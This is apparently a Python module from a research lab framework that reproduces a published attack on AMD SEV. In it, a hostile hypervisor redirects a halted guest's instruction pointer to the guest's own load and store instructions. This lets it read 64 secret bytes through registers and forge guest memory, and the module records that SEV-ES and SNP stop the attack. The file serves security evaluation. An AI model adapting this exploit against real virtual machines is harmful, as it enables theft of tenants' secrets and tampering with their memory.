"""E7, A4a, A9: plain SEV leaves the registers to the hypervisor, and code that reads memory for it."""

from __future__ import annotations

import struct

from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.guest import CODE, HLT, SECRET, Program
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Log
from cbit.attacks.lab.outcome import SUCCEEDS, Mode, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Stand
from cbit.attacks.power import Power

LOAD, STORE = CODE + 0x200, CODE + 0x210
KEPT = 0x20000  #: what the victim writes and the adversary wants to forge

#: Counts in a loop that never touches the secret.  Two pieces of its code, as any program has them, load and
#: store through registers.
COUNTER = """
    xor ebx, ebx
again:
    inc rbx
    hlt
    jmp again
.org 0x200
    mov rax, [rsi]
    hlt
.org 0x210
    mov [rdi], rax
    hlt
"""


def counter(stand: Stand) -> Scene:
    """Start a victim with a secret in memory that it does not touch."""
    secret = stand.entropy.draw(64)
    guest = stand.guest(Program(COUNTER), secret=secret)
    guest.until_idle()
    facts = Facts({"secret_at": SECRET, "load": LOAD, "store": STORE, "kept_at": KEPT})
    return Scene((secret,), facts, guest, planted=guest.peek(SECRET, 64) == secret)


_ES = stopped_by("SEV-ES: registers are encrypted and their integrity is checked at VMRUN")
EXPECT = {
    Mode.NONE: SUCCEEDS,
    Mode.SME: SUCCEEDS,
    Mode.SEV: succeeds("registers are in the VMCB and in the processor, in the clear"),
    Mode.SEV_ES: _ES,
    Mode.SEV_SNP: _ES,
}


@attack(
    title="The victim's own instructions as an oracle",
    experiment="E7",
    paper="Hetzelt & Buhren, VEE 2017 (attacks.md A4a); Werner et al., AsiaCCS 2019 (A9)",
    holds={Power.TAKE_EXITS, Power.USE_REGISTERS},
    expect=EXPECT,
    victim=counter,
)
def register_oracle(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Point rIP at a load in the victim's code and rSI at its secret; read rAX at the next exit.

    The load is executed by the guest, with the guest's key.  The hypervisor chooses its address and sees its
    result, for plain SEV protects memory and not registers.  A store forges memory the same way.
    """
    hands.victim.until(HLT)
    saved = hands.registers.all() | {"rip": hands.registers["rip"], "rsp": hands.registers["rsp"]}
    log.step(f"the victim halts at rIP {saved['rip']:#x}: its registers are saved")
    loot, exits = b"", 0
    for at in range(0, 64, 8):
        hands.registers["rip"] = facts.number("load")
        hands.registers["rsi"] = facts.number("secret_at") + at
        hands.victim.until(HLT)
        exits += 1
        loot += struct.pack("<Q", hands.registers["rax"])
    log.step("eight loads of the victim's own, one exit each", loot)
    hands.registers["rip"] = facts.number("store")
    hands.registers["rdi"] = facts.number("kept_at")
    hands.registers["rax"] = 0x6465_6772_6F66  # "forged"
    hands.victim.until(HLT)
    hands.registers["rip"] = facts.number("load")
    hands.registers["rsi"] = facts.number("kept_at")
    hands.victim.until(HLT)
    log.step("a store, and a load of what it stored", struct.pack("<Q", hands.registers["rax"]))
    for name, value in saved.items():
        hands.registers[name] = value
    hands.victim.skip(1)
    hands.victim.until(HLT)
    log.step("the registers are put back, and the victim counts on as if nothing had been")
    log.figure("exits for each 8 bytes", exits / (len(loot) / 8), published="no figure in the stored text")
    return loot
